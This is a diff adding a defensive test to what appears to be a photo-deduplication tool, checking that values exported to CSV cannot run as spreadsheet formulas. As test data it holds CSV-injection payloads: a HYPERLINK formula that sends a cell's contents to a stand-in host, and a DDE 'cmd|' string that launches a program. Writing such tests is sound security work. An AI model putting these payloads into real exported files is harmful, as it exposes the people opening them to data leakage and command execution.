@@ -1007,3 +1007,24 @@ def test_a_cache_folder_that_takes_no_writes_even_from_root_gives_one_warning_an
     assert [sorted(m.path.name for m in g.members) for g in result.groups] == [["a.jpg", "b.jpg", "c.jpg"]]
     assert len(result.warnings) == 1 and "cannot be used" in str(result.warnings[0]), result.warnings
     assert {path.name: path.read_bytes() for path in cache.iterdir() if path.is_file()} == before
+
+
+def test_a_crafted_result_s_words_exported_to_csv_never_run_as_a_spreadsheet_formula(tmp_path: Path) -> None:
+    """Hostile: a saved result edited so that its words begin with "=", "+", "-" or "@" (a keep
+    reason "=HYPERLINK(…)", a format "@SUM(…)"): exported to CSV, such a cell is a formula that a
+    spreadsheet runs on opening (CSV injection). Every such cell reads as text there, its words
+    kept after the quote mark that says so; the file's paths and numbers are as they were."""
+    keep, copy = make_copies(tmp_path / "photos")
+    data = json.loads(report.to_json(scan_folder(tmp_path / "photos")))
+    (group,) = data["groups"]
+    group["keep_reason"] = '=HYPERLINK("http://example.invalid/?q="&A1,"Click")'
+    group["files"][1]["format"] = "@SUM(1+1)*cmd|' /C calc'!A0"
+    group["files"][0]["format"] = "+1+1"
+    loaded = report.load(json.dumps(data))
+
+    rows = list(csv.DictReader(io.StringIO(report.to_csv(loaded), newline="")))
+    cells = [value for row in rows for value in row.values()]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert {row["keep_reason"] for row in rows} >= {"'" + group["keep_reason"]}
+    assert sorted(row["format"] for row in rows) == sorted(["'@SUM(1+1)*cmd|' /C calc'!A0", "'+1+1"])
+    assert sorted(row["path"] for row in rows) == sorted([str(keep), str(copy)])
